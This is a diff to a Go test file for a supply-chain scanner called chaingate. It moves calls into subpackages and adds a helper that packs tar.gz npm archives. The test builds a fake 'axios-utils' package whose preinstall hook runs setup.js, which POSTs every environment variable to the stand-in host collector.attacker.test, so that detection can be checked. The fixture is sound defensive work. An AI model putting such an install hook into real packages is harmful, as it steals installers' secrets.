@@ -1,7 +1,9 @@
 package risk
 
 import (
+	"archive/tar"
 	"bytes"
+	"compress/gzip"
 	"context"
 	"encoding/json"
 	"os"
@@ -10,6 +12,9 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/chaingate/chaingate/risk/content"
+	"github.com/chaingate/chaingate/risk/signal"
+	"github.com/chaingate/chaingate/risk/vulndb"
 	"github.com/chaingate/chaingate/sbom"
 )
 
@@ -33,18 +38,18 @@ func TestCoEvidence(t *testing.T) {
 		{ID: "e", Name: "crossenv", Version: "1.0.0", PURL: flagged},
 	}}
 	for _, purl := range []string{candidate, strong, benign} {
-		s, err := TyposquatScore(map[bool]string{true: "npm", false: "PyPI"}[strings.HasPrefix(purl, "pkg:npm")], purlName(purl))
+		s, err := signal.TyposquatScore(map[bool]string{true: "npm", false: "PyPI"}[strings.HasPrefix(purl, "pkg:npm")], purlName(purl))
 		if err != nil {
 			t.Fatal(err)
 		}
-		if s.Flagged || s.Value < DefaultTyposquatCandidate {
+		if s.Flagged || s.Value < signal.DefaultTyposquatCandidate {
 			t.Fatalf("%s: want an unflagged candidate, got %.3f flagged=%v", purl, s.Value, s.Flagged)
 		}
 	}
 
 	// Content: a constructed stealer attributed to the candidate, the real
 	// bufferutil (node-gyp-build) attributed to the benign candidate.
-	evil, err := ScanPackageArchive(context.Background(), "axios-utils-1.0.0.tgz", bytes.NewReader(contentTarGz(t, map[string]string{
+	evil, err := content.ScanPackageArchive(context.Background(), "axios-utils-1.0.0.tgz", bytes.NewReader(testTarGz(t, map[string]string{
 		"package/package.json": `{"name":"axios-utils","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
 		"package/setup.js":     "const https = require('https');\nconst req = https.request({hostname: 'collector.attacker.test', method: 'POST'});\nreq.write(JSON.stringify(process.env)); req.end();\n",
 	})))
@@ -56,24 +61,24 @@ func TestCoEvidence(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
-	native, err := ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
+	native, err := content.ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
 	if err != nil {
 		t.Fatal(err)
 	}
 	static := append(evil.SignalsFor(candidate), native.SignalsFor(benign)...)
-	db := &DB{}
-	rep, err := Scan(context.Background(), doc, db, WithDetectors(TyposquatDetector{}, StaticSignals(static)))
+	db := &vulndb.DB{}
+	rep, err := Scan(context.Background(), doc, db, WithDetectors(signal.TyposquatDetector{}, signal.StaticSignals(static)))
 	if err != nil {
 		t.Fatal(err)
 	}
-	risks := map[string]SourceRisk{}
+	risks := map[string]signal.SourceRisk{}
 	for _, r := range rep.SignalRisk {
 		risks[r.Source] = r
 	}
 	if r := risks[candidate]; !r.Score.Flagged || !slices.Contains(r.Signals, "typosquat") || !slices.Contains(r.Signals, "env-exfiltration") {
 		t.Errorf("corroborated candidate not flagged: %+v", r)
 	}
-	if r := risks[strong]; r.Score.Flagged || r.Score.Value < SignalRiskThreshold ||
+	if r := risks[strong]; r.Score.Flagged || r.Score.Value < signal.SignalRiskThreshold ||
 		!strings.Contains(strings.Join(r.Score.Evidence, "\n"), "needs another signal") {
 		t.Errorf("a lone candidate must not flag, and say why: %+v", r)
 	}
@@ -142,4 +147,21 @@ func TestCoEvidence(t *testing.T) {
 func purlName(purl string) string {
 	s := purl[strings.IndexByte(purl, '/')+1:]
 	return s[:strings.IndexByte(s, '@')]
+}
+
+// testTarGz packs files into a gzip-compressed tar, as npm packs a package.
+func testTarGz(t testing.TB, files map[string]string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(zw)
+	for name, body := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	zw.Close()
+	return buf.Bytes()
 }
